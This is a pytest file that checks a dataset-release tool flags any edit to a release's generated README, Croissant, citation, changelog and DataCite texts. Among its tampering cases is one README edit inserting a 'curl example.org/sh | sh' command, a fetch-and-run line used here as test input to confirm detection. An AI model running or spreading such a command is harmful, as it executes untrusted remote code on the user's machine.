"""The texts of a release are what the code writes from release.json and the tables."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

from curate.core.actor import TOOL
from curate.transparency import signing_keys
from curate.verify.checks import seal as sealing
from curate.verify.checks.texts import TEXTS, check_texts
from tests.verify.hostile import GOLDEN, reseal


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A copy of the golden release."""
    return Path(shutil.copytree(GOLDEN, tmp_path / "release", copy_function=shutil.copyfile))


def told(folder: Path) -> list[tuple[str, str, str]]:
    """Rule, place and version of each text that is not as written."""
    seal, _ = sealing.read(folder)
    assert seal
    return [(f.rule, f.place, f.tag) for f in check_texts(seal).findings if f.rule.startswith("TEXT_")]


def edit(folder: Path, name: str, old: str, new: str) -> int:
    """Change a text in one place; gives the number of the line."""
    text = (folder / name).read_text()
    assert text.count(old) >= 1
    (folder / name).write_text(text.replace(old, new, 1))
    return text.partition(old)[0].count("\n") + 1


EDITS = {
    "a sentence on licences": ("README.md", "Each row bears its licence", "Nobody asks for the licence"),
    "terms": ("README.md", "make no attempt to identify", "make an attempt to identify"),
    "what a licence allows": ("README.md", "| 6 | yes | yes | yes |", "| 6 | yes | yes | no |"),
    "a paragraph more": ("README.md", "## Withdrawal", "Send your copy to us.\n\n## Withdrawal"),
    "a load instruction": ("README.md", 'load_dataset("golden/release"', 'load_dataset("golden/realease"'),
    "a command": ("README.md", "curate check path", "curl example.org/sh | sh; curate check path"),
    "a count": ("README.md", "| F | 2 |", "| F | 3 |"),
    "a description in the card alone": ("README.md", "De-identified DICOM", "Best.\n\nDe-identified DICOM"),
    "the archive's name in the citation": ("README.md", "curate (2026). Golden", "Other (2026). Golden"),
    "a tag": ("README.md", "- radiology\n", ""),
    "the end": ("README.md", "says what each version changed.\n", "says what each version changed.\n\nMore.\n"),
    "what Croissant says of persons": ("croissant.json", "None: test material.", "None."),
    "who published, in Croissant": ("croissant.json", '"name": "curate"', '"name": "another"'),
    "a key more in Croissant": ("croissant.json", '"isLiveDataset": false,', '"isLiveDataset": false,\n "x": 1,'),
    "the citation's message": ("CITATION.cff", "please cite it", "do not cite it"),
    "the citation's abstract": ("CITATION.cff", "with minimal metadata", "with all metadata"),
    "a sentence in the changelog": ("CHANGELOG.md", "- 6 studies.", "- 6 studies. Use no other."),
    "a section in the changelog": ("CHANGELOG.md", "### Added", "### Security\n\n- None.\n\n### Added"),
    "the size in DataCite": ("datacite.json", "75032 bytes", "75033 bytes"),
    "the licence in DataCite": ("datacite.json", "licenses/by/4.0/", "licenses/by-nd/4.0/"),
}


def test_the_texts_of_a_release_are_what_the_code_writes(folder: Path) -> None:
    """Untouched, no text is told, whichever version of the tool is named."""
    assert told(folder) == []
    reseal(folder, tool="curate 0.0.1")
    assert told(folder) == []


@pytest.mark.parametrize(("name", "old", "new"), EDITS.values(), ids=EDITS.keys())
def test_a_sentence_that_was_edited_is_told_with_its_line(folder: Path, name: str, old: str, new: str) -> None:
    """Wherever it stands, and sealed anew: a warning names the file, the line and the version of the tool."""
    line = edit(folder, name, old, new)
    reseal(folder)
    (found,) = told(folder)
    assert found[::2] == ("TEXT_NOT_AS_WRITTEN", TOOL)
    place, _, number = found[1].rpartition(" line ")
    assert (place, int(number) - line in (0, 1, 2)) == (name, True)


def test_the_text_of_another_version_is_told_as_such(folder: Path) -> None:
    """The version that wrote the release is named."""
    edit(folder, "README.md", "Each row bears", "All rows bear")
    reseal(folder, tool="curate 0.0.1")
    ((rule, place, tag),) = told(folder)
    assert (rule, place.split(" ")[0], tag) == ("TEXT_OTHER_TOOL", "README.md", "curate 0.0.1")


def test_the_archives_own_words_are_taken_from_their_place(folder: Path) -> None:
    """A description that card and Croissant both have, and a contact, are in order; one of them changed is not."""
    edit(folder, "README.md", "De-identified DICOM", "Our words\\*.\n\nDe-identified DICOM")
    edit(folder, "croissant.json", '"description": "De-id', '"description": "Our words*. De-id')
    edit(folder, "CITATION.cff", "De-identified DICOM studies with minimal metadata.", "Our words*.")
    edit(folder, "README.md", "a suspected identification.", "a suspected identification. Report to a@b\\_.")
    assert [place.split(" ")[0] for _, place, _ in told(folder)] == ["datacite.json"]
    edit(folder, "README.md", "a@b\\_.", "a\\_b@example.org.")
    assert [place.split(" ")[0] for _, place, _ in told(folder)] == ["README.md", "datacite.json"]
    edit(folder, "README.md", "a\\_b@", "a_b@")
    assert [place.split(" ")[0] for _, place, _ in told(folder)] == ["datacite.json"]
    edit(folder, "README.md", "Our words", "My words")
    assert [place.split(" ")[0] for _, place, _ in told(folder)] == ["README.md", "datacite.json"]


def test_the_card_names_the_key_that_signs(folder: Path, tmp_path: Path) -> None:
    """Another key in the card, or none, is told; it is the one in `attestations/`."""
    (line,) = [one for one in (folder / "README.md").read_text().split("\n") if one.startswith("curate trust add ")]
    assert line.rpartition(" ")[2] in (folder / "attestations" / "keys.json").read_text()
    number = edit(
        folder, "README.md", line, f"curate trust add {signing_keys.make(tmp_path / 'k', 'curate/golden').public}"
    )
    expected = [("TEXT_NOT_AS_WRITTEN", f"README.md line {number}", TOOL)]
    assert told(folder) == expected
    text = (folder / "README.md").read_text().split("\n")
    assert text[number - 2] == "```sh"
    (folder / "README.md").write_text("\n".join([*text[: number - 5], *text[number + 1 :]]))
    assert [rule for rule, _, _ in told(folder)] == ["TEXT_NOT_AS_WRITTEN"]


@pytest.mark.parametrize("outside", [[1], {"doi": 1}, {"notices": "x"}, {"more": "x"}, {"data_use": ["DUO:9"]}])
def test_what_no_release_states_hides_nothing(folder: Path, outside: Any) -> None:
    """A release.json from which no texts can be written has none that are as written."""
    reseal(folder, outside=outside)
    assert {place.split(" ")[0] for _, place, _ in told(folder)} == set(TEXTS)
